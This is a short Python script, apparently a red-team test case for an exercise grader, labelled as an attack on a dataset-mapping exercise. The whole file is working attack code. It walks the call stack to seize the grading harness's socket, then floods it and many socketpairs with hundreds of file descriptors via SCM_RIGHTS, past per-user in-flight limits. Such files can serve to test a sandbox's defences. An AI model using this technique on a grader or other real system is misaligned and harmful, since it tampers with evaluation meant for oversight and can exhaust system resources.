# attack: sends the judge descriptors over its own socket, and keeps more of them in flight than a user may
# exercise: ex01_map_dataset
# check: ex01.tabular.len
import array
import os
import socket
import sys

frame = sys._getframe()
while not hasattr(frame.f_locals.get("self"), "sock"):
    frame = frame.f_back
sock = frame.f_locals["self"].sock
files = array.array("i", [os.open("/dev/null", os.O_RDONLY), sock.fileno(), *(os.open("/dev/zero", os.O_RDONLY) for _ in range(98))])
kept, sent = [], 0
print("TRIED", flush=True)
for one in (*(one for _ in range(30) for one in socket.socketpair()), sock):
    one.setblocking(False)
    try:
        for _ in range(20):
            one.sendmsg([b"\0"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, files)])
            sent += len(files)
    except OSError as error:
        print(error)
        continue
    kept.append(one)
print(sent)
sock.setblocking(True)
